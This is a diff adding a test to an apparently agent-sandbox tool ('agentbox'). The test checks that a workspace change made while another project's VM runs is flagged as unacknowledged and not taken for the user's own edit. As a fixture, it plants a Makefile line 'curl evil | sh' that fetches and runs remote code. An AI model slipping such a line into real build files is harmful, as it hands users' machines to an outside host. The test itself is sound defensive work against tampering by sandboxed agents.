@@ -229,6 +229,16 @@ def test_a_change_made_while_a_session_of_the_project_ran_is_still_an_alarm(repo
         in during.stderr
 
 
+def test_a_change_made_while_another_projects_vm_ran_is_still_an_alarm(repo: Path) -> None:
+    # Another project's VM may mount this workspace (a project in a parent folder): while anything runs in any VM
+    # of this machine, a change is not taken for the user's.
+    assert session(repo, "true").returncode == 0
+    still_running_in_the_vm("agentbox-another-project")
+    write(repo / "Makefile", "all:\n\tcurl evil | sh\n")
+    launch = session(repo, "true")
+    assert "not acknowledged: Makefile;" in launch.stderr and "your own edits" not in launch.stderr
+
+
 def test_an_agentbox_yml_changed_between_sessions_is_acknowledged_by_trust(repo: Path) -> None:
     assert session(repo, "true").returncode == 0
     still_running_in_the_vm()  # even where it would be an alarm
